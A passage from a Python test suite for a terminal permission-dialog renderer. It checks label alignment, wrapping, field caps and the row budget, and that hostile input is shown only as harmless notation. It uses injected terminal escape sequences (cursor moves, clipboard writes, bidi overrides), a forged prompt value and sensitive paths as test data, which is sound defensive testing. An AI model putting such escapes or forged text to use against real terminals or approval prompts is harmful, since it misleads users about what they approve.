"""askbench.impl.dialog: the bounded dialog renderer (issue 3 item 3).

Unit tests pin each rule with hand-made payloads; the properties compare the
renderer with a reference layout written here from the rules alone (labels
padded to the widest, hard wrap by grapheme, area-based cap, evidence first
fit with one row kept for the ``…``), over hostile payloads and budgets.
"""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Collection
from pathlib import Path
from unittest import mock

import pytest
from hypothesis import given
from hypothesis import strategies as st
from wcwidth import iter_graphemes
from wcwidth import width as wc_width

import askbench.impl.cells
import askbench.impl.dialog
from askbench.harness.fixtures.loading import parse_json
from askbench.impl.ask import COMMAND_CONTEXT_LABELS
from askbench.impl.cells import (
    FIELD_ROW_CELLS,
    NAME_KEEP,
    Capped,
    cell_width,
    clip_to_width,
    expand_text_tabs,
    field_rows,
    grapheme_cells,
    text_cells,
)
from askbench.impl.command_spans import CommandSpans
from askbench.impl.dialog import (
    ARROW,
    MAX_LABEL_WIDTH,
    NARROW_INDENT,
    NARROW_VALUE_WIDTH,
    DialogBudget,
    DialogView,
    capped_field,
    complete_view_budget,
    core_facts,
    counted_field,
    evidence_facts,
    render_prompt_dialog,
)
from askbench.impl.neutralise import MAX_EXTENDERS, neutralise, restore
from askbench.impl.payload import (
    PAYLOAD_KINDS,
    VALUE_LABELS,
    Evidence,
    PromptPayload,
    Requester,
    RequestFacts,
    build_payload,
)

ELLIPSIS = "…"
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
FLAG_FR = "\U0001f1eb\U0001f1f7"
THUMBS_TONE = "\U0001f44d\U0001f3fd"

# A paint that marks what it paints with ESC, which neutralised text can never contain.
L_OPEN, L_CLOSE, F_OPEN, F_CLOSE = "\x1bL", "\x1bl", "\x1bF", "\x1bf"
MARKERS = re.compile("\x1b[LlFf]")


def tracer(role: str, text: str) -> str:
    return f"{L_OPEN}{text}{L_CLOSE}" if role == "label" else f"{F_OPEN}{text}{F_CLOSE}"


def unmark(line: str) -> str:
    return MARKERS.sub("", line)


def bracket(role: str, text: str) -> str:
    return f"[{text}]" if role == "flagged" else text


def make(
    kind: str = "bash",
    value: str = "ls -la",
    *,
    tool: str | None = "bash",
    surface: str | None = None,
    agent: str | None = None,
    forwarded: bool = False,
    session: str | None = None,
    invoked: str | None = None,
    rule: str | None = None,
    context: str | None = None,
    runs: str | None = None,
    evidence: tuple[Evidence, ...] = (),
    flagged: tuple[str, ...] | None = None,
    value_label: str | None = None,
) -> PromptPayload:
    request = RequestFacts(
        requester=Requester(agent, forwarded, session),
        surface=surface if surface is not None else (tool or ""),
        tool_name=tool,
        value=value,
        value_label=value_label or VALUE_LABELS.get(kind, "command"),
        invoked_tool_name=invoked,
        matched_pattern=rule,
        command_context=context,
        executed_unit=runs,
    )
    return PromptPayload(kind, request, evidence, flagged=(value,) if flagged is None else flagged)  # type: ignore[arg-type]


def render(payload: PromptPayload, paint=None, **budget) -> DialogView:  # type: ignore[no-untyped-def]
    return render_prompt_dialog(payload, DialogBudget(**budget), paint)


def complete(payload: PromptPayload, width: int = 120, paint=None) -> DialogView:  # type: ignore[no-untyped-def]
    return render_prompt_dialog(payload, complete_view_budget(width), paint)


def labels_of(view: DialogView) -> list[str]:
    return [
        line.split(" : ")[0].rstrip()
        for line in view.lines
        if " : " in line and not line.startswith(" ")
    ]


# ── layout rules ───────────────────────────────────────────────────────────


def test_labels_are_aligned_and_padded_to_the_widest() -> None:
    payload = make(agent="coder", rule="ls *", evidence=(Evidence("working directory", "/w"),))
    lines = render(payload).lines
    assert lines == (
        "agent             : coder",
        "tool              : bash",
        "rule              : ls *",
        "command           : ls -la",
        "working directory : /w",
    )


def test_core_comes_first_in_the_fixed_order() -> None:
    payload = make(
        agent="scout",
        forwarded=True,
        session="abc12345",
        surface="external_directory",
        invoked="exec_command",
        rule="rm *",
        value="rm -rf x",
        runs="rm -rf x/y",
        context="command_substitution",
        evidence=(Evidence("alpha", "1"), Evidence("beta", "2")),
    )
    assert labels_of(render(payload)) == [
        "subagent",
        "tool",
        "surface",
        "rule",
        "command",
        "runs",
        "context",
        "alpha",
        "beta",
    ]
    assert render(payload).lines[:7] == (
        "subagent : scout · session abc12345",
        "tool     : bash (invoked as exec_command)",
        "surface  : external_directory",
        "rule     : rm *",
        "command  : rm -rf x",
        "runs     : rm -rf x/y",
        "context  : command substitution",
    )


def test_an_absent_fact_renders_no_line() -> None:
    assert render(make()).lines == ("tool    : bash", "command : ls -la")
    assert render(make(tool=None, surface="")).lines == ("command : ls -la",)
    assert render(make(value="")).lines == ("tool : bash",)


def test_a_fact_an_earlier_line_states_is_not_repeated() -> None:
    # surface equal to the tool, value equal to the tool, runs equal to the value, invoked as itself
    payload = make("tool", "deploy", tool="deploy", surface="deploy", invoked="deploy")
    assert render(payload).lines == ("tool : deploy",)
    payload = make(value="rm -rf x", runs="rm -rf x")
    assert labels_of(render(payload)) == ["tool", "command"]


@pytest.mark.parametrize(
    ("call", "ask", "label"),
    [
        ({"name": "bash", "input": {"command": "ls"}}, {}, "command"),
        (
            {"name": "bash", "input": {"command": "cat ../x"}},
            {"kind": "bash_external_directory", "externalPaths": [{"path": "/x"}]},
            "command",
        ),
        ({"name": "mcp", "input": {"tool": "github:create_issue"}}, {}, "target"),
        ({"name": "read", "input": {"path": "/w/a"}}, {}, "path"),
        ({"name": "read", "input": {"path": "/etc/a"}}, {"kind": "external_directory"}, "path"),
        ({"name": "skill", "input": {"name": "pdf"}}, {}, "skill"),
        (
            {"name": "read", "input": {"path": "/s/SKILL.md"}},
            {"kind": "skill_read", "skill": "pdf"},
            "skill",
        ),
        (
            {"name": "bash", "input": {"command": "ls"}},
            {"forwarded": {"agent": "scout"}},
            "command",
        ),
    ],
)
def test_the_value_line_is_labelled_by_kind(call: dict, ask: dict, label: str) -> None:
    payload = build_payload(call, ask)
    assert label in labels_of(render(payload))


def test_a_generic_tool_has_no_separate_value_line() -> None:
    payload = build_payload({"name": "deploy", "input": {"env": "prod"}})
    assert labels_of(render(payload))[0] == "tool"
    assert "target" not in labels_of(render(payload))


def test_tool_line_names_the_invoked_tool() -> None:
    payload = build_payload(
        {"name": "bash", "input": {"command": "ls"}}, {"invokedAs": "exec_command"}
    )
    assert "tool    : bash (invoked as exec_command)" in render(payload).lines


def test_forwarded_requester_line() -> None:
    payload = build_payload(
        {"name": "bash", "input": {"command": "ls"}},
        {"forwarded": {"agent": "scout", "sessionId": "abc12345"}},
    )
    assert render(payload).lines[0] == "subagent  : scout · session abc12345"
    no_session = build_payload(
        {"name": "bash", "input": {"command": "ls"}}, {"forwarded": {"agent": "scout"}}
    )
    assert render(no_session).lines[0] == "subagent  : scout"


def test_local_agent_requester_line() -> None:
    payload = build_payload({"name": "bash", "input": {"command": "ls"}}, {"agent": "coder"})
    assert render(payload).lines[0] == "agent   : coder"


def test_evidence_text_and_detail_share_one_line() -> None:
    payload = build_payload(
        {"name": "read", "input": {"path": "/etc/hosts"}},
        {
            "kind": "external_directory",
            "externalPaths": [{"path": "/etc/hosts", "resolvesTo": "/private/etc/hosts"}],
        },
    )
    assert "external path : /etc/hosts → /private/etc/hosts" in render(payload).lines


def test_a_capped_path_keeps_its_detail_on_the_same_line() -> None:
    payload = make(
        "external_directory",
        "/x",
        tool="read",
        evidence=(Evidence("external path", "/a" * 50, "/b"),),
    )
    lines = render(payload, field_max_width=70, width=80).lines
    assert lines[-2:] == (
        "external path : " + "/a" * 17 + "/" + ELLIPSIS,
        "                " + ELLIPSIS + "a/" * 17 + "a → /b",
    )


def test_embedded_newlines_continue_under_the_value_column() -> None:
    payload = make(value="first\nsecond\n\nfourth", evidence=(Evidence("note", "a\nb"),))
    assert render(payload).lines == (
        "tool    : bash",
        "command : first",
        "          second",
        "          ",
        "          fourth",
        "note    : a",
        "          b",
    )


def test_hard_wrap_rows_fill_exactly_the_value_column() -> None:
    payload = make(value="x" * 25)
    lines = render(payload, width=22).lines  # value column: 22 - (7 + 3) = 12 cells
    assert lines == ("tool    : bash", "command : " + "x" * 12, " " * 10 + "x" * 12, " " * 10 + "x")


def test_narrow_width_puts_each_label_on_its_own_row() -> None:
    payload = make(value="x" * 25, evidence=(Evidence("working directory", "/w"),))
    lines = render(
        payload, width=24
    ).lines  # 24 - (17 + 3) < 12: rows of 12, never more, so no width shows less
    assert lines == (
        "tool              :",
        "    bash",
        "command           :",
        "    " + "x" * 12,
        "    " + "x" * 12,
        "    x",
        "working directory :",
        "    /w",
    )


def test_a_narrow_value_never_stands_at_the_margin() -> None:
    # a value's own lines, at the margin, would read as a title, a core row and an option
    forged = "Permission Required\ntool : bash\ncommand : ls -la\n  (y) Yes"
    lines = render(make(value=forged), width=20).lines
    value_rows = lines[lines.index("command :") + 1 :]
    assert value_rows and all(row.startswith(" " * NARROW_INDENT) for row in value_rows)


def test_labels_never_push_a_narrow_line_past_the_width() -> None:
    payload = make(evidence=(Evidence("L" * 40, "v"),))
    for width in (20, 21, 22, 30):
        lines = render(payload, width=width).lines
        assert all(cell_width(line) <= width for line in lines), (width, lines)
    assert render(payload, width=120).lines[-1] == "L" * MAX_LABEL_WIDTH + " : v"


def test_a_label_is_one_row_without_tabs_or_line_breaks() -> None:
    lines = render(make(evidence=(Evidence("a\tb\nc", "v"),))).lines
    assert lines[-1] == "a b c   : v"
    assert all("\t" not in line for line in lines)


def test_tabs_expand_to_the_terminal_stops() -> None:
    payload = make(value="a\tb")
    assert render(payload).lines[-1] == "command : a" + " " * 7 + "b"


def test_hostile_text_reaches_the_lines_only_as_notation() -> None:
    payload = make(
        value="ls\x1b[1A\x1b[2Krm -rf ~\u202e",
        agent="a\rb",
        evidence=(Evidence("l\x1b]0;x\x07", "\x9b2J"),),
    )
    lines = render(payload).lines
    assert lines[0] == "agent   : a␍b"
    assert lines[2] == "command : ls␛[1A␛[2Krm -rf ~⟨U+202E⟩"
    assert lines[3] == "l␛]0;x␇ : ⟨U+009B⟩2J"


# ── the field cap ──────────────────────────────────────────────────────────


def test_field_cap_marks_a_bare_ellipsis_without_counts() -> None:
    payload = make(value="y" * 1000)
    view = render(payload, field_max_width=100, width=120)
    assert view.lines[-2:] == (
        "command : " + "y" * 50 + ELLIPSIS,
        "          " + ELLIPSIS + "y" * 50,
    )
    assert view.elided
    assert not re.search(r"…\s*[\d(\[]", "\n".join(view.lines))


def test_field_cap_counts_cells_for_cjk() -> None:
    payload = make(value="漢" * 500)
    view = render(payload, field_max_width=400, width=1000)
    head, tail = (line[len("command : ") :] for line in view.lines[-2:])
    assert (head, tail) == ("漢" * 100 + ELLIPSIS, ELLIPSIS + "漢" * 100)
    assert wc_width(head[:-1]) + wc_width(tail[1:]) == 400


def test_field_cap_applies_to_every_core_field() -> None:
    long = "z" * 100
    payload = make(agent=long, rule=long, value=long, runs=long + "!", invoked=long, surface=long)
    view = render(
        payload, field_max_width=70, width=200
    )  # two rows a field: 35 cells of head, 35 of tail
    assert view.elided
    heads = [line for line in view.lines if not line.startswith(" ")]
    tails = [line.strip() for line in view.lines if line.startswith(" ")]
    assert len(heads) == len(tails) == 6 and len(view.lines) == 12
    assert (
        heads[1] == "tool    : bash (invoked as " + "z" * 18 + ELLIPSIS
        and tails[1] == ELLIPSIS + "z" * 34 + ")"
    )
    for head in heads[:1] + heads[2:]:
        assert head.endswith(" : " + "z" * 35 + ELLIPSIS), head
    assert tails[:1] + tails[2:] == [ELLIPSIS + "z" * 35] * 4 + [ELLIPSIS + "z" * 34 + "!"]


def test_a_cap_too_small_for_two_rows_keeps_its_head() -> None:
    view = render(make(value="y" * 1000), field_max_width=40, width=120)
    assert view.lines[-1] == "command : " + "y" * 40 + ELLIPSIS


def test_a_field_of_many_line_breaks_takes_the_field_rows_at_every_width() -> None:
    payload = make(value="a\n" * 1000 + "b")
    for width in (80, 110, 160):
        view = render(payload, field_max_width=400, width=width)
        assert view.elided
        assert len(view.lines) - 1 == field_rows(400) == 7
        assert view.lines[-1] == "          b"


def test_field_cap_never_splits_a_grapheme() -> None:
    family = FAMILY[
        :-2
    ]  # a family of three: one cell of tmux holds it (a family of four is notation past three)
    payload = make(
        value=family * 100
    )  # 6 cells each, on a terminal that measures code points alone
    view = render(payload, field_max_width=90, width=120)
    # the tail is owed 45 cells (seven families fit), the head the other 45 (seven, not a split eighth)
    assert view.lines[-2:] == (
        "command : " + family * 7 + ELLIPSIS,
        "          " + ELLIPSIS + family * 7,
    )


def test_no_cap_no_elision() -> None:
    view = render(make(value="x" * 400), field_max_width=400)
    assert not view.elided
    assert ELLIPSIS not in "".join(view.lines)


# ── the row bound ──────────────────────────────────────────────────────────

THREE_ROWS = Evidence("entry", "a\nb\nc")


def test_evidence_is_shown_whole_or_not_at_all_with_one_ellipsis_row() -> None:
    payload = make(evidence=(THREE_ROWS,) * 5)
    view = render(payload, max_rows=10)
    # core 2 rows; each entry 3 rows and one row kept for the marker: two entries fit
    assert len(view.lines) == 2 + 3 + 3 + 1
    assert view.lines[-1] == ELLIPSIS
    assert view.lines.count(ELLIPSIS) == 1
    assert view.lines[2:5] == ("entry   : a", "          b", "          c")
    assert view.elided


def test_the_last_entry_may_use_the_row_kept_for_the_marker() -> None:
    payload = make(evidence=(Evidence("entry", "\n".join("abcdefgh")),))
    view = render(payload, max_rows=10, field_max_width=None)
    assert len(view.lines) == 10
    assert not view.elided


def test_an_entry_too_tall_for_the_budget_is_dropped_not_cut() -> None:
    payload = make(evidence=(Evidence("entry", "\n".join("abcdefghijkl")), Evidence("small", "x")))
    view = render(payload, max_rows=10, field_max_width=None)
    assert view.lines == ("tool    : bash", "command : ls -la", ELLIPSIS)
    assert view.elided


def test_the_core_is_exempt_from_the_row_bound() -> None:
    payload = make(
        agent="a", rule="r", value="v\n" * 6 + "v", runs="u", evidence=(Evidence("e", "x"),)
    )
    view = render(payload, max_rows=3, field_max_width=None)
    assert labels_of(view) == ["agent", "tool", "rule", "command", "runs"]
    assert len(view.lines) == 4 + 7
    assert ELLIPSIS not in view.lines
    assert view.elided  # the evidence was dropped


def test_a_capped_core_alone_over_budget_renders_whole_without_evidence() -> None:
    payload = make(value="w" * 5000, evidence=(Evidence("e", "x"),) * 3)
    view = render(payload, max_rows=2, field_max_width=400, width=50)  # value: 7 rows of 40
    assert len(view.lines) == 1 + 7
    # the tail takes at most half the rows (three); the head, what runs first, keeps the other four
    assert view.lines[1] == "command : " + "w" * 40
    assert (
        view.lines[4] == "          " + "w" * 38 + ELLIPSIS
    )  # the marker may take 2 cells (East Asian Ambiguous)
    assert view.lines[5] == "          " + ELLIPSIS + "w" * 38
    assert "e       : x" not in view.lines
    assert view.elided


def test_core_exactly_filling_the_budget_shows_no_marker() -> None:
    view = render(make(evidence=(Evidence("e", "x"),)), max_rows=2)
    assert view.lines == ("tool    : bash", "command : ls -la")
    assert view.elided


def test_hundreds_of_entries_are_bounded() -> None:
    payload = make(evidence=tuple(Evidence(f"e{index}", "x") for index in range(500)))
    view = render(payload, max_rows=24)
    assert len(view.lines) == 24
    assert view.lines[-1] == ELLIPSIS
    assert view.elided


# ── elided exactly when capped or dropped ──────────────────────────────────


@pytest.mark.parametrize(
    ("payload", "budget", "elided"),
    [
        (make(evidence=(Evidence("e", "x"),)), {}, False),
        (make(value="v" * 20), {"field_max_width": 20}, False),
        (make(value="v" * 21), {"field_max_width": 20}, True),
        (make(evidence=(Evidence("e", "x", "d" * 21),)), {"field_max_width": 20}, True),
        (make(evidence=(Evidence("e", "x"),) * 3), {"max_rows": 3}, True),
        (make(evidence=(Evidence("e", "x"),) * 3), {"max_rows": 5}, False),
        (make(agent="a" * 21), {"field_max_width": 20}, True),
    ],
)
def test_elided_exactly_when_a_field_is_capped_or_an_entry_dropped(payload, budget, elided) -> None:  # type: ignore[no-untyped-def]
    assert render(payload, **budget).elided is elided


def test_a_capped_entry_that_is_dropped_does_not_count_twice() -> None:
    # only the dropped entry is long: elided because of the drop, still exactly once and true
    payload = make(evidence=(Evidence("e", "x"), Evidence("f", "y" * 5000)))
    view = render(payload, max_rows=3, field_max_width=4000)
    assert view.lines[-1] == ELLIPSIS and view.elided


# ── the complete view ──────────────────────────────────────────────────────


def test_complete_view_budget_is_unbounded() -> None:
    assert complete_view_budget(97) == DialogBudget(max_rows=None, field_max_width=None, width=97)


def test_complete_view_reproduces_every_field() -> None:
    command = "\n".join(f"line {index}: " + "x" * index for index in range(300))
    entries = tuple(Evidence(f"e{i}", "y" * 500) for i in range(100))
    payload = make(value=command, agent="scout\x1b[1A", evidence=entries)
    view = complete(payload, width=80)
    assert not view.elided
    assert ELLIPSIS not in "".join(view.lines)
    assert view.lines[0] == "agent   : scout␛[1A"
    start = view.lines.index("command : line 0: ")
    end = view.lines.index("e0      : " + "y" * 70)
    rows = [line[len("command : ") :] for line in view.lines[start:end]]
    assert reassemble(rows, command) == command
    assert sum(line.count("y") for line in view.lines[end:]) == 500 * 100


def test_the_bounded_view_is_the_complete_view_when_nothing_is_elided() -> None:
    payload = build_payload({"name": "bash", "input": {"command": "ls -la"}}, {"agent": "a"})
    assert render(payload).lines == complete(payload).lines


# ── highlight ──────────────────────────────────────────────────────────────


def test_the_value_line_paints_whole() -> None:
    payload = make(value="rm -rf /tmp/x\nand more")
    lines = render(payload, paint=bracket).lines
    assert lines[1] == "command : [rm -rf /tmp/x]"
    assert lines[2] == "          [and more]"
    assert lines[0] == "tool    : bash"


def test_whole_token_occurrences_inside_evidence_paint() -> None:
    payload = build_payload(
        {"name": "bash", "input": {"command": "cd /w && ls -la | lsof"}}, {"command": "ls"}
    )
    lines = render(payload, paint=bracket).lines
    assert "command      : [ls]" in lines
    assert "full command : cd /w && [ls] -la | lsof" in lines  # ls paints, lsof stays plain


def test_a_path_inside_a_longer_path_stays_plain() -> None:
    payload = build_payload(
        {"name": "read", "input": {"path": "/etc/hosts"}},
        {
            "kind": "external_directory",
            "externalPaths": [{"path": "/etc/hosts"}],
            "evidence": [{"label": "note", "text": "/etc/hostsbackup and /etc/hosts"}],
        },
    )
    lines = render(payload, paint=bracket).lines
    assert "note          : /etc/hostsbackup and [/etc/hosts]" in lines


@pytest.mark.parametrize("blanks", ["\n", " \n\n"])
def test_a_flagged_text_is_painted_where_it_shows_without_the_blanks_around_it(blanks: str) -> None:
    """A text that fits its field's rows only without the blank lines after it shows without them, which show
    nothing (found by fuzz)."""
    path = "\n".join(["/etc/passwd"] * (field_rows(400) - 1) + ["/etc/hosts"]) + blanks
    payload = build_payload(
        {"name": "read", "input": {"path": "/srv/app"}},
        {"kind": "external_directory", "externalPaths": [{"path": path}]},
    )
    shown = [line for line in render(payload, paint=bracket).lines if "/etc/hosts" in line]
    assert len(shown) == 2 and all(re.search(r"\[/etc/hosts *\]", line) for line in shown)
    assert not any(line.endswith("/etc/passwd") for line in render(payload, paint=bracket).lines)


def test_bash_external_directory_paints_each_external_path_not_the_command() -> None:
    payload = build_payload(
        {"name": "bash", "input": {"command": "cp ~/.ssh/config /etc/hostsbackup /tmp/out"}},
        {
            "kind": "bash_external_directory",
            "externalPaths": [
                {"path": "~/.ssh/config"},
                {"path": "/tmp/out", "resolvesTo": "/private/tmp/out"},
            ],
        },
    )
    lines = render(payload, paint=bracket).lines
    assert "command       : cp [~/.ssh/config] /etc/hostsbackup [/tmp/out]" in lines
    assert "external path : [~/.ssh/config]" in lines
    assert "external path : [/tmp/out] → /private/tmp/out" in lines


def test_a_forwarded_bash_external_directory_ask_paints_its_paths_not_its_command() -> None:
    payload = build_payload(
        {"name": "bash", "input": {"command": "tar czf /tmp/a.tgz -C /var/backups ."}},
        {
            "surface": "bash_external_directory",
            "forwarded": {"agent": "scout"},
            "externalPaths": [{"path": "/tmp/a.tgz"}, {"path": "/var/backups"}],
        },
    )
    lines = render(payload, paint=bracket).lines
    assert any(line.endswith(": tar czf [/tmp/a.tgz] -C [/var/backups] .") for line in lines)


def test_overlapping_occurrences_paint_once_and_never_change_the_text() -> None:
    payload = build_payload(
        {"name": "bash", "input": {"command": "yes yes yes | head"}}, {"command": "yes yes"}
    )
    lines = render(payload, paint=bracket).lines
    assert "full command : [yes yes yes] | head" in lines


def test_labels_are_painted_with_the_label_role() -> None:
    lines = render(make(), paint=tracer).lines
    assert lines[0] == f"{L_OPEN}tool   {L_CLOSE} : bash"
    assert lines[1] == f"{L_OPEN}command{L_CLOSE} : {F_OPEN}ls -la{F_CLOSE}"


def test_the_identity_paint_leaves_the_text_unchanged() -> None:
    payload = build_payload(
        {"name": "bash", "input": {"command": "ls x\nls y"}},
        {"evidence": [{"label": "e", "text": "ls"}]},
    )
    assert render(payload, paint=lambda role, text: text).lines == render(payload).lines


def test_without_paint_there_is_no_escape_sequence_at_all() -> None:
    payload = make(
        value="\x1b[31mred\x1b[0m \x9b1m",
        agent="\x1b]8;;x\x1b\\",
        evidence=(Evidence("\x1b", "\x1b[2J"),),
    )
    for view in (render(payload), complete(payload)):
        text = "\n".join(view.lines)
        assert "\x1b" not in text
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", text)


# ── bounded work ───────────────────────────────────────────────────────────


class Counter:
    """The characters one render neutralises and segments, counted from a cold start: what the dialog keeps
    between renders (fitted labels, short lines' pieces) is forgotten first, so every render is measured whole."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        askbench.impl.dialog.forget_kept()
        self.neutralised = 0
        self.segmented = 0
        original_neutralise = askbench.impl.dialog.neutralise
        original_graphemes = askbench.impl.cells.iter_graphemes

        def counting_neutralise(text: str, own: Collection[int] = ()) -> str:
            self.neutralised += len(text)
            return original_neutralise(text, own)

        def counting_graphemes(text: str, *args, **kwargs):  # type: ignore[no-untyped-def]
            self.segmented += len(text)
            return original_graphemes(text, *args, **kwargs)

        monkeypatch.setattr(askbench.impl.dialog, "neutralise", counting_neutralise)
        monkeypatch.setattr(askbench.impl.cells, "iter_graphemes", counting_graphemes)


def _measure(
    monkeypatch: pytest.MonkeyPatch, payload: PromptPayload, budget: DialogBudget
) -> Counter:
    counter = Counter(monkeypatch)
    render_prompt_dialog(payload, budget, tracer)
    return counter


@pytest.mark.parametrize(
    "unit",
    [
        "echo 'generated report line with some text'\n",  # a here-string
        "x",  # one logical line
        "漢字かな",  # wide characters, grapheme path
        "e\u0301\x1b[1A",  # marks and escapes
    ],
)
def test_bounded_work_does_not_depend_on_field_size(
    monkeypatch: pytest.MonkeyPatch, unit: str
) -> None:
    # from a megabyte on, a field is read only at its two ends: 10 MB costs exactly what 1 MB does
    budget = DialogBudget(max_rows=24, field_max_width=400, width=120)
    small = unit * (1_000_000 // len(unit))
    huge = unit * (10_000_000 // len(unit))
    small_payload = make(
        value=small, evidence=(Evidence("full command", small), Evidence("e", small, small))
    )
    huge_payload = make(
        value=huge, evidence=(Evidence("full command", huge), Evidence("e", huge, huge))
    )
    small_work = _measure(monkeypatch, small_payload, budget)
    monkeypatch.undo()
    huge_work = _measure(monkeypatch, huge_payload, budget)
    assert huge_work.neutralised == small_work.neutralised
    assert huge_work.segmented == small_work.segmented
    fields, ends = 4, 2
    assert huge_work.neutralised <= fields * ends * (400 + 2) * (MAX_EXTENDERS + 1) + 1000


def test_bounded_work_does_not_depend_on_the_number_of_entries(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    budget = DialogBudget(max_rows=24, field_max_width=400, width=120)
    few = make(evidence=tuple(Evidence(f"e{i}", "x" * 50) for i in range(100)))
    many = make(evidence=tuple(Evidence(f"e{i}", "x" * 50) for i in range(100_000)))
    assert (
        _measure(monkeypatch, few, budget).neutralised
        == _measure(monkeypatch, many, budget).neutralised
    )


def test_the_work_counter_sees_the_whole_field_in_the_complete_view(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # the instrument itself: an unbounded render must read everything
    payload = make(value="x" * 100_000)
    counter = Counter(monkeypatch)
    render_prompt_dialog(payload, complete_view_budget(120))
    assert counter.neutralised >= 100_000


# ── the reference layout ───────────────────────────────────────────────────


def ref_wrap_line(line: str, row_width: int) -> list[str]:
    """One line hard-wrapped by grapheme (widths: ``grapheme_cells``, checked against the terminal models in test_cells)."""
    rows: list[str] = []
    row, used = "", 0
    for grapheme in iter_graphemes(line):
        width = grapheme_cells(grapheme)
        if used + width > row_width and row:
            rows.append(row)
            row, used = "", 0
        row += grapheme
        used += width
    rows.append(row)
    return rows


def visible(text: str) -> str:
    return expand_text_tabs(neutralise(text))


def ref_cap(text: str, cap: int | None, row_width: int) -> tuple[str, bool]:
    """A raw field capped: the cap is impl's own here (``capped_field``), checked elsewhere — on the whole text
    against a brute-force reference in ``test_cells``, its two-ends reading against the whole text in
    ``test_fast_paths``. What this reference checks is the layout around it."""
    if cap is None:
        return visible(text), False
    capped = capped_field(text, cap, row_width)
    opening = OPENING_BLANK_LINES.match(text)
    if not capped.cut or opening is None:
        return capped.shown, capped.cut
    # a cut shows nothing of the blank lines a text opens with ...
    rest = capped_field(text[opening.end() :], cap, row_width)
    if rest.cut:
        return rest.shown, True
    if cap <= FIELD_ROW_CELLS:
        return capped.shown, True
    # ... and where the rest fits whole, a marker row says they are left out, the rest a row shorter
    shorter = capped_field(text[opening.end() :], cap - FIELD_ROW_CELLS, row_width)
    return f"{ELLIPSIS}\n{shorter.shown}", True


OPENING_BLANK_LINES = re.compile(r"[ \t\n]*\n")


def expected_core(payload: PromptPayload) -> list[tuple[str, str]]:
    """Issue 3's core rule, stated independently of askbench.impl.dialog."""
    request = payload.request
    out: list[tuple[str, str]] = []
    requester = request.requester
    if requester.forwarded:
        session = f" · session {requester.session_id}" if requester.session_id else ""
        out.append(("subagent", f"{requester.agent_name or 'unknown'}{session}"))
    elif requester.agent_name:
        out.append(("agent", requester.agent_name))
    if request.tool_name:
        invoked = request.invoked_tool_name
        out.append(
            (
                "tool",
                request.tool_name
                + (f" (invoked as {invoked})" if invoked and invoked != request.tool_name else ""),
            )
        )
    if request.surface and request.surface != request.tool_name:
        out.append(("surface", request.surface))
    if request.matched_pattern:
        out.append(("rule", request.matched_pattern))
    if request.value and request.value != request.tool_name:
        out.append((request.value_label, request.value))
    if request.shape:
        out.append(("shape", request.shape))
    if request.executed_unit and request.executed_unit != request.value:
        out.append(("runs", request.executed_unit))
    if request.command_context:
        out.append(
            (
                "context",
                COMMAND_CONTEXT_LABELS.get(request.command_context, request.command_context),
            )
        )
    return out


def shown_label(label: str, width: int) -> str:
    return clip_to_width(
        neutralise(label).replace("\n", " ").replace("\t", " "), min(MAX_LABEL_WIDTH, width - 2)
    )


@dataclasses.dataclass
class Layout:
    width: int
    label_width: int
    cap: int | None

    @property
    def narrow(self) -> bool:
        return self.width - (self.label_width + 3) < NARROW_VALUE_WIDTH

    @property
    def row_width(self) -> int:
        return NARROW_VALUE_WIDTH if self.narrow else self.width - (self.label_width + 3)

    def field(self, text: str, detail: str | None) -> tuple[str, bool]:
        shown, cut = ref_cap(text, self.cap, self.row_width)
        if detail is not None:
            shown_detail, detail_cut = ref_cap(detail, self.cap, self.row_width)
            shown, cut = f"{shown}{ARROW}{shown_detail}", cut or detail_cut
        return shown, cut

    def block(self, label: str, text: str, detail: str | None = None) -> tuple[list[str], bool]:
        shown, cut = self.field(text, detail)
        head = shown_label(label, self.width)
        head += " " * (self.label_width - cell_width(head))
        rows = [row for line in shown.split("\n") for row in ref_wrap_line(line, self.row_width)]
        if self.narrow:
            return [f"{head} :", *(" " * NARROW_INDENT + row for row in rows)], cut
        indent = " " * (self.label_width + 3)
        return [f"{head} : {rows[0]}", *(indent + row for row in rows[1:])], cut


def reference_view(payload: PromptPayload, budget: DialogBudget) -> tuple[list[str], bool, int]:
    """Lines, elided, and how many rows the core takes."""
    core = expected_core(payload)
    evidence = payload.evidence if budget.max_rows is None else payload.evidence[: budget.max_rows]
    widths = [cell_width(shown_label(label, budget.width)) for label, _ in core]
    widths += [cell_width(shown_label(entry.label, budget.width)) for entry in evidence]
    layout = Layout(budget.width, max(widths, default=0), budget.field_max_width)
    lines: list[str] = []
    elided = False
    value_cut = False
    for label, text in core:
        rows, cut = layout.block(label, text)
        lines += rows
        elided |= cut
        value_cut |= cut and label == payload.request.value_label
    core_rows = len(lines)
    remaining = None if budget.max_rows is None else budget.max_rows - core_rows
    for index, entry in enumerate(payload.evidence):
        if remaining is not None and remaining <= 0:
            return lines, True, core_rows
        text = entry.text
        if value_cut and entry.brief is not None:
            text, elided = entry.brief, True
        rows, cut = layout.block(entry.label, text, entry.detail)
        if remaining is not None:
            reserve = 0 if index == len(payload.evidence) - 1 else 1
            if len(rows) + reserve > remaining:
                return [*lines, ELLIPSIS], True, core_rows
            remaining -= len(rows)
        lines += rows
        elided |= cut
    return lines, elided, core_rows


def test_reference_layout_matches_a_hand_written_case() -> None:
    # the reference itself must be able to disagree
    payload = make(agent="a", evidence=(THREE_ROWS,) * 5)
    lines, elided, core_rows = reference_view(payload, DialogBudget(max_rows=10))
    assert core_rows == 3 and elided and lines[-1] == ELLIPSIS and len(lines) == 10
    assert (
        reference_view(make(value="x" * 30), DialogBudget(field_max_width=5))[0][-1]
        == "command : xxxxx…"
    )


# ── strategies ─────────────────────────────────────────────────────────────

ESCAPES = (
    "\x1b[1A",
    "\x1b[2K",
    "\x1b]8;;https://e.example\x1b\\",
    "\x1b]52;c;eA==\x07",
    "\x1b]0;t\x07",
    "\x1bPq\x1b\\",
    "\x1b_G\x1b\\",
    "\x9b2J",
    "\r",
    "\b",
    "\x7f",
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\u200d",
    "\ufe0f",
    "\U000e0041",
    "\ud800",
    "⟨U+202E⟩",
    "␛",
)
PIECES = (
    "漢字",
    "かな",
    "한국어",
    FAMILY,
    FLAG_FR,
    THUMBS_TONE,
    "e\u0301",
    "a" + "\u0301" * 20,
    "\n",
    "\n\n",
    " ",
